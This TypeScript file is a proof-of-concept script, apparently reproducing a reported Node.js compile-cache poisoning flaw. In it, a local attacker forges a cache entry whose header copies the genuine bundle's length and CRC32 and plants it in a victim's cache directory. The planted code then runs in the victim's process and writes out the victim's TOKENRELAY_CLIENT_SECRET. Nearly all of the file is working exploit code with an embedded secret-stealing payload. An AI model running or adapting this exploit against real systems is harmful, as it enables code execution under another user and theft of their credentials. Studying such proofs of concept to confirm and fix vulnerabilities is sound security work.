/**
 * The compile-cache poisoning of issue 19, as another local user runs it. Node checks a
 * cache entry by the source's length and CRC32, not by a signature, so an entry compiled
 * from a same-length module of the attacker's, with the genuine bundle's length and CRC32
 * in its header, runs the attacker's code in place of the bundle.
 *
 *   node compile-cache-attack.ts <genuine bundle> <victim's compile-cache dir> <report file>
 *
 * Run as the attacker's uid. Exit 0: the entry is planted (the victim's next run writes its
 * TOKENRELAY_CLIENT_SECRET to <report file>); exit 3: the victim's directory kept us out.
 */
import { execFileSync } from 'node:child_process';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';

const [genuine, victimCache, report] = process.argv.slice(2) as [string, string, string];
const source = readFileSync(genuine);
const work = mkdtempSync(join(tmpdir(), 'attacker-'));

/** Compiles `file` into a cache of our own; returns the version directory's name and the entry. */
function compile(file: string, cache: string): { version: string; key: string; entry: Buffer } {
  execFileSync(process.execPath, [file, '--version'], {
    env: { PATH: process.env.PATH, NODE_COMPILE_CACHE: cache, ATTACKER: '1' },
    stdio: 'ignore',
  });
  for (const version of readdirSync(cache)) {
    for (const key of readdirSync(join(cache, version))) {
      const entry = readFileSync(join(cache, version, key));
      if (entry.readUInt32LE(4) === source.length) return { version, key, entry };
    }
  }
  throw new Error(`no cache entry for ${file}`);
}

// Where the genuine bundle's entry lives: the key depends only on its path.
const target = compile(genuine, join(work, 'genuine-cache'));

// Our module, padded to the genuine length; it acts only when the victim runs it.
const payload = `import fs from 'node:fs';
if (!process.env.ATTACKER) {
  fs.writeFileSync(${JSON.stringify(report)}, JSON.stringify({ uid: process.getuid(), secret: process.env.TOKENRELAY_CLIENT_SECRET ?? null }));
  process.stdout.write('owned\\n');
  process.exit(0);
}
//`;
const evilPath = join(work, 'evil.mjs');
writeFileSync(evilPath, payload + 'x'.repeat(source.length - Buffer.byteLength(payload)));
const evil = compile(evilPath, join(work, 'evil-cache'));

// Header: magic, code size, cache size, code CRC32, cache CRC32; then V8's code cache.
const cacheData = evil.entry.subarray(20);
const header = Buffer.alloc(20);
header.writeUInt32LE(evil.entry.readUInt32LE(0), 0);
header.writeUInt32LE(source.length, 4);
header.writeUInt32LE(cacheData.length, 8);
header.writeUInt32LE(crc32(source), 12);
header.writeUInt32LE(crc32(cacheData), 16);

try {
  // Node names the directory after the Node build and the user: the victim's uid, not ours.
  const dir = join(victimCache, target.version.replace(/-\d+$/, `-${statSync(victimCache).uid}`));
  mkdirSync(dir, { recursive: true, mode: 0o777 });
  const tmp = join(dir, `.${target.key}.tmp`);
  writeFileSync(tmp, Buffer.concat([header, cacheData]));
  renameSync(tmp, join(dir, target.key));
  process.stdout.write(`planted ${statSync(join(dir, target.key)).size} bytes\n`);
} catch (e) {
  process.stdout.write(`kept out: ${(e as NodeJS.ErrnoException).code}\n`);
  process.exit(3);
}
